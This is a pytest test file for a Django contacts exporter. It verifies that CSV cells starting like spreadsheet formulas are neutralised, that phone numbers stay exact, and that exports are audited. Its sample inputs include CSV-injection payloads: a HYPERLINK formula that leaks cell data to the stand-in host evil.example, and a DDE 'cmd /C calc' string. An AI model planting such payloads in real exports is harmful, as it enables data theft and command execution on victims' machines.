"""Exported CSV files are safe to open in a spreadsheet; phone numbers stay exact."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from config.lib.csv_cells import safe_cell
from contacts.exporting import HEADER, stream_csv
from contacts.models import AuditEvent, ConsentState, Contact

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+SUM(1)",
    "-1+2",
    "@cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\tplain after a tab",
    "\r=1+2",
    "+",
    "-",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Anna", "O'Brien", "a=b", "1+2", " =not at start", "", "Zoë", "10", "x@y.z"],
)
def test_safe_cell_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["+15551230001", "+4915123456789", "+447400123456"])
def test_safe_cell_writes_e164_numbers_as_they_are(value):
    assert safe_cell(value) == value


def test_safe_cell_handles_none_and_numbers():
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(-5) == "'-5"


@pytest.fixture
def hostile(make_contact, make_list):
    return make_contact(
        "+15551230001",
        first_name='=HYPERLINK("http://evil.example","Click me")',
        last_name="+SUM(1)",
        external_id="-1+2",
        language="@cmd",
        time_zone="\t=1+2",
        attributes={"note": "=2+3"},
        consent=ConsentState.OPTED_IN,
        lists=[make_list("=evil list"), make_list("-another")],
    )


def _read(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_full_export_neutralises_formulas_but_keeps_the_phone_exact(
    hostile, make_contact, tmp_path
):
    plain = make_contact("+4915123456789", first_name="Anna", last_name="Schmidt")
    path = tmp_path / "export.csv"
    call_command("export_contacts", str(path), stdout=io.StringIO())

    with open(path, newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == HEADER
    rows = {int(r["contact_id"]): r for r in _read(path)}
    row = rows[hostile.pk]
    assert row["identity"] == "+15551230001"
    assert row["channel"] == "SMS"
    assert row["marketing_consent"] == "OPTED_IN"
    assert row["first_name"] == "'" + hostile.first_name
    assert row["last_name"] == "'+SUM(1)"
    assert row["external_id"] == "'-1+2"
    assert row["language"] == "'@cmd"
    assert row["time_zone"] == "'\t=1+2"
    assert row["lists"] == "'-another|=evil list"
    assert json.loads(row["attributes"]) == {"note": "=2+3"}

    other = rows[plain.pk]
    assert (other["first_name"], other["last_name"]) == ("Anna", "Schmidt")
    assert other["identity"] == "+4915123456789"

    # No cell of the file starts like a formula, except the exact E.164 numbers.
    for record in _read(path):
        for name, value in record.items():
            if value and value[0] in "=+-@\t\r":
                assert name == "identity", (name, value)
                assert value[1:].isdigit()


def test_a_contact_without_identities_is_exported_too(make_contact, tmp_path):
    contact = make_contact(first_name="@lonely")
    contact.identities.all().delete()
    path = tmp_path / "export.csv"
    call_command("export_contacts", str(path), stdout=io.StringIO())
    (row,) = _read(path)
    assert row["first_name"] == "'@lonely"
    assert row["identity"] == ""


def test_stream_csv_matches_the_command_and_is_audited(hostile, compliance_admin):
    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count()
    text = "".join(
        stream_csv(
            Contact.objects.all(), actor=compliance_admin, description="VIP list"
        )
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["identity"] == "+15551230001"
    assert rows[0]["last_name"] == "'+SUM(1)"
    audit = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).latest("id")
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count() == (
        before + 1
    )
    assert audit.actor == compliance_admin
    assert audit.summary == "Exported contacts: VIP list"


def test_the_export_command_is_recorded_in_the_audit_trail(hostile, tmp_path):
    path = tmp_path / "export.csv"
    call_command("export_contacts", str(path), stdout=io.StringIO())
    audit = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert audit.actor is None
    assert audit.actor_label == "system"
    assert str(path) in audit.summary
